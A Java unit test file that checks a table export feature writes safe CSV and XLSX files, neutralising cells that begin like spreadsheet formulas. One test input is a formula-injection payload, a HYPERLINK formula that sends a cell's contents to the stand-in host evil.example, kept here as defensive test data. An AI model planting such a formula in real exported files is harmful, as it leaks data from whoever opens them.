package org.ansoplatform.platform;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;

class TableExportTests {

    static final List<String> HEADERS = List.of("name", "country", "count");
    static final List<List<?>> ROWS = List.of(List.of("Zhang, Wei", "CN", 3), List.of("=HYPERLINK(\"x\")", "PK", 12));

    @Test
    void csvQuotesSeparatorsAndStartsWithAByteOrderMark() {
        byte[] csv = TableExport.csv(HEADERS, ROWS);
        assertThat(csv[0]).isEqualTo((byte) 0xEF);
        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
        assertThat(text).startsWith("name,country,count\r\n").contains("\"Zhang, Wei\",CN,3");
    }

    @Test
    void xlsxKeepsNumbersAsNumbersAndFormulasAsText() throws IOException {
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(TableExport.xlsx("Applications", HEADERS, ROWS)))) {
            List<Row> rows = workbook.getFirstSheet().read();
            assertThat(rows).hasSize(3);
            assertThat(rows.get(0).getCellText(0)).isEqualTo("name");
            assertThat(rows.get(2).getCellAsNumber(2)).contains(new BigDecimal("12"));
            assertThat(rows.get(2).getCell(0).getFormula()).isNull();
            assertThat(rows.get(2).getCellText(0)).isEqualTo("=HYPERLINK(\"x\")");
        }
    }

    @Test
    void csvCellsThatWouldStartAFormulaAreShownAsTextAndTypedNumbersStayNumbers() {
        List<List<?>> rows = List.of(
                List.of("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")", "+1", -12),
                List.of("-2+3", "@SUM(A1)", new BigDecimal("-0.5")),
                List.of("\t=1", "\r=1", "a=b"));
        byte[] csv = TableExport.csv(HEADERS, rows);
        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
        assertThat(text.split("\r\n")).containsExactly("name,country,count",
                "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click\"\")\",'+1,-12",
                "'-2+3,'@SUM(A1),-0.5",
                "'\t=1,\"'\r=1\",a=b");
    }
}
